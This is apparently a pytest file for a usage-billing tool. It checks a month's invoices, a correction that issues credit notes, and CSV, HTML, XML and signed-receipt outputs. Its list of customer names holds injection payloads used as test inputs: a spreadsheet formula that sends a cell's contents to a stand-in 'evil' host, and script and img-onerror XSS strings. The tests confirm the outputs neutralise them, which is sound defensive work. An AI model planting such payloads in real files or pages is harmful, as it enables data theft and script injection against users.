"""One month from its events to every paper made of it, counted a second time: a currency without decimals, a zone whose clocks are set
back in it, names that are formulas and markup, and a correction by which everybody owes less."""

import csv
import gzip
import io
import json
import re
import xml.etree.ElementTree as ET
from collections import defaultdict
from datetime import UTC, datetime
from decimal import ROUND_HALF_UP, Decimal
from fractions import Fraction
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from close_world import FOLDER, MORE, Books
from rollup_world import World, moment
from test_statements import documents, gapless

MONTH, ZONE = "2025-11", "America/New_York"  # 2025-11-02 has 25 hours
NAMES = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-2+3", "@SUM(A1)", "'=1", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "a,b\"c",
         "\u202emitciv", "]]><x/>&amp;", "plain"]
PRICES = ('{from: 2020-01-01, calls: {mode: volume, tiers: [{up_to: "6", price: "7.5"}, {price: "0.49"}]}, gib: "1000.5", minimum: "3", '
          'rules: [{status: 5xx, bill: "false"}, {route: "GET /dear", call: "11.25"}]}')
PARTIES = """      currency: KRW
      seller: {name: "S <&> \\"API\\"", country: KR, tax_id: 123-45-67890, series: INV-, due_days: "14", tax: home}
      taxes: [{name: home, category: standard, rate: "10"}]
      receipts: requests
"""


def shown(sub: str) -> str:
    """As rollups have it: what begins with a quote stands as JSON writes it."""
    return json.dumps(sub) if sub[0] == '"' else sub


def events() -> list[dict[str, Any]]:
    """Around both ends of the month, both two o'clocks of the long day, and noon of days between."""
    edges = [moment(text) for text in ("2025-11-01T03:59", "2025-11-01T04:00", "2025-12-01T04:59", "2025-12-01T05:00", "2025-11-02T05:30", "2025-11-02T06:30",
                                       "2025-11-03T04:59", "2025-11-03T05:00", "2025-11-20T12:00")]
    made = []
    for n, sub in enumerate(["-", *NAMES]):
        for at in edges[:4 + n % 6]:
            for again in range(1 + n % 2):
                made.append({"sub": sub, "at": at, "bytes": 1 + 2**28 * (n % 3), "status": "500" if n % 4 == 3 and again else "200",
                             "route": "GET /dear" if n % 5 == 2 and again else "GET /x"})
    return [{**one, "id": f"id-{n}"} for n, one in enumerate(made)]


def send(world: World, made: list[dict[str, Any]], hours: int = 1) -> None:
    world.sandbox.traffic("/aws/apigw/shop", [{"message": json.dumps({
        "requestId": one["id"], "sub": one["sub"], "username": one["sub"], "status": one["status"], "requestTimeEpoch": str(one["at"]),
        "responseLength": str(one["bytes"]), "httpMethod": "GET", "routeKey": one["route"], "path": "/"}, separators=(",", ":"), ensure_ascii=False),
        "timestamp": one["at"] * 1000, "arrival": (one["at"] + hours * 3600) * 1000} for one in made], counted=True)


def day_of(one: dict[str, Any]) -> str:
    return datetime.fromtimestamp(one["at"], UTC).astimezone(ZoneInfo(ZONE)).strftime("%Y-%m-%d")


def owed(calls: list[dict[str, Any]]) -> Decimal:
    """The customer's month by the price list, in fractions and by hand."""
    billed = [one for one in calls if one["status"][0] != "5"]
    dear = [one for one in billed if one["route"] == "GET /dear"]
    plain = len(billed) - len(dear)
    total = Fraction(45, 4) * len(dear) + plain * (Fraction(15, 2) if plain <= 6 else Fraction(49, 100)) + Fraction(2001, 2) * sum(one["bytes"] for one in billed) / 2**30
    total = max(total, Fraction(3))
    return (Decimal(total.numerator) / Decimal(total.denominator)).quantize(Decimal(1), ROUND_HALF_UP)


def by_sub(made: list[dict[str, Any]]) -> dict[str | None, list[dict[str, Any]]]:
    found = defaultdict(list)
    for one in made:
        if day_of(one).startswith(MONTH):
            found[None if one["sub"] == "-" else one["sub"]].append(one)
    return dict(found)


def check_document(document: dict[str, Any], calls: list[dict[str, Any]]) -> None:
    lines = sum((Fraction(line["amount"]) for line in document["lines"]), Fraction(0))
    assert lines == Fraction(document["subtotal"]) and lines + Fraction(document["rounding"]) == Fraction(document["net"])
    assert sum((Fraction(tax["amount"]) for tax in document["taxes"]), Fraction(document["net"])) == Fraction(document["total"])
    assert re.fullmatch(r"-?\d+", document["net"]) and re.fullmatch(r"-?\d+", document["total"]), document["total"]
    assert (document["usage"]["calls"], document["usage"]["bytes"]) == (len(calls), sum(one["bytes"] for one in calls))
    rows = {(row["day"], row["route"], row["status"]): row["calls"] for row in document["breakdown"]}
    wanted: dict[tuple[str, str, str], int] = defaultdict(int)
    for one in calls:
        wanted[day_of(one), one["route"], one["status"]] += 1
    assert rows == wanted
    assert (document["period"]["begins"], document["period"]["ends"]) == ("2025-11-01T04:00:00Z", "2025-12-01T05:00:00Z")


class Page(HTMLParser):
    """Nothing in it acts, whatever customers are called."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in ("script", "img", "iframe", "object", "x", "link", "form") and not [name for name, _ in attrs if name.startswith("on")], tag


def no_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r" and (cell[0] != "-" or cell == "-" or re.fullmatch(r"-[\d.]+", cell)), cell


def papers(books: Books, folder: str, calls: dict[str | None, list[dict[str, Any]]]) -> dict[str | None, dict[str, Any]]:
    """Every form of what was closed says the same."""
    manifest, found = documents(books, folder)
    files = {f["name"]: f["path"] for f in manifest["files"]}
    assert set(found) == set(calls)
    for customer, document in found.items():
        check_document(document, calls[customer])
        base = manifest["statements"]["folder"] + next(e["hash"] or "unattributed" for e in map(json.loads, gzip.decompress(
            books.read(f"{FOLDER}{folder}{files['statements.jsonl.gz']}")).splitlines()) if e["customer"] == customer)
        Page().feed(books.read(base + ".html").decode())
    assert sum(int(d["net"]) for c, d in found.items() if c is not None) == int(manifest["totals"]["total"])
    totals = {d["number"]: Fraction(d["total"]) for d in found.values() if d["number"]}
    for name, number, amount in (("focus", "InvoiceId", "BilledCost"), ("focus-1.4", "InvoiceId", "BilledCost"), ("lines", "document", "amount")):
        text = gzip.decompress(books.read(f"{FOLDER}{folder}{files[f'statements.{name}.csv.gz']}")).decode()
        sums: dict[str, Fraction] = defaultdict(Fraction)
        for row in csv.DictReader(io.StringIO(text, newline="")):
            if row[number]:
                sums[row[number]] += Fraction(row[amount])
        assert sums == totals, name
        no_formula(text)
    for name, path in files.items():
        if name.endswith(".csv"):
            no_formula(books.read(f"{FOLDER}{folder}{path}").decode())
    return found


def test_a_month_counted_again(sandbox: Any, spec: Any, api: str, tmp_path: Path) -> None:
    books = Books(World(sandbox, spec))
    buyers = "      customers:\n" + "".join(f"        - {{sub: {json.dumps(shown(name))}, customer: {json.dumps(name)}, name: {json.dumps(name)}, country: KR}}\n" for name in NAMES)
    books.world.write(prices=PRICES, zone=ZONE, since="2025-11-01", more=MORE.format(key=books.key) + PARTIES + buyers)
    made = events()
    send(books.world, made)
    books.world.run("rollup", "--month", MONTH)
    calls = by_sub(made)
    bill = json.loads(books.world.run("bill", "--month", MONTH, "-o", "json").stdout)
    assert {line["customer"]: Decimal(line["total"]) for line in bill["lines"]} == {sub: owed(of) for sub, of in calls.items() if sub}
    assert sum(len(of) for of in calls.values()) == bill["totals"]["calls"] + bill["unattributed"]["calls"] < len(made)
    for words in (("-o", "csv"), ("-o", "focus"), ("-o", "focus-1.4"), ("-o", "lines"), ("--by", "day,route,status", "-o", "csv")):
        no_formula(books.world.run("bill", "--month", MONTH, *words).stdout)
    for name in (NAMES[0], "-"):
        no_formula(books.world.run("requests", "--customer", name, "--month", MONTH, "-o", "csv").stdout)
    books.close(MONTH)
    first = papers(books, f"{MONTH}/", calls)
    assert {c: d["net"] for c, d in first.items() if c} == {sub: str(owed(of)) for sub, of in calls.items() if sub}
    # Seven more calls for everybody: the cheap tier, so that most owe less than they were billed.
    late = [{"sub": sub, "at": moment("2025-11-30T20:00") + n, "bytes": 0, "status": "200", "route": "GET /x", "id": f"late-{sub}-{n}"}
            for sub in NAMES for n in range(7)]
    send(books.world, late, hours=30)
    books.world.run("rollup", "--month", MONTH)
    corrected = books.close(MONTH, "--correct")
    assert corrected["closed"] is True, corrected
    after = by_sub([*made, *late])
    second = papers(books, f"{MONTH}/corrections/1/", {sub: of for sub, of in after.items() if sub})
    less = 0
    for sub, document in second.items():
        assert int(first[sub]["net"]) + int(document["net"]) == owed(after[sub])
        assert document["kind"] == ("credit_note" if int(document["net"]) < 0 else "invoice")
        less += int(document["net"]) < 0
    assert 0 < less < len(second), less
    gapless(books, f"{MONTH}/", f"{MONTH}/corrections/1/")
    assert books.verify(MONTH)["verified"] is True
    receipts(books, tmp_path)


def receipts(books: Books, folder: Path) -> None:
    """Each customer's, of both documents; parts of one in another are found out."""
    verified = {}
    for month in (MONTH, f"{MONTH}-c1"):
        for name in (NAMES[0], NAMES[5], "plain"):
            path = folder / f"{month}-{NAMES.index(name)}.json"
            books.world.run("receipt", "--customer", name, "--month", month, "--out", str(path))
            books.world.run("verify-receipt", str(path), "--public-key", str(books.public))
            verified[month, name] = json.loads(path.read_text())
            others = [json.dumps(other)[1:-1] for other in NAMES if other != name and len(other) > 4]
            assert not [other for other in others if other in path.read_text().replace("\\\\", "\\")]
    assert len({receipt["root"] for receipt in verified.values()}) == 2  # one for each document
    mine, others = verified[MONTH, "plain"], [verified[f"{MONTH}-c1", "plain"], verified[MONTH, NAMES[0]]]
    for other in others:
        for member in ("statement", "requests", "root", "salt", "inclusion", "index", "signature"):
            if mine[member] == other[member]:
                continue
            path = folder / "swapped.json"
            path.write_text(json.dumps({**mine, member: other[member]}, sort_keys=True, separators=(",", ":"), ensure_ascii=False))
            assert "is NOT what was signed" in books.world.run("verify-receipt", str(path), "--public-key", str(books.public), code=5).stdout, member
    assert books.world.run("receipt", "--customer", "plai", "--month", MONTH, "--out", str(folder / "none.json"), code=1).stdout == ""
    assert ET.fromstring(xml_of(books, '"><img src=x onerror=alert(1)>')).tag.endswith("Invoice")


def xml_of(books: Books, customer: str) -> bytes:
    manifest = json.loads(books.read(f"{FOLDER}{MONTH}/manifest.json"))
    path = next(f["path"] for f in manifest["files"] if f["name"] == "statements.jsonl.gz")
    entry = next(e for e in map(json.loads, gzip.decompress(books.read(f"{FOLDER}{MONTH}/{path}")).splitlines()) if e["customer"] == customer)
    return books.read(f"{manifest['statements']['folder']}{entry['hash']}.xml")
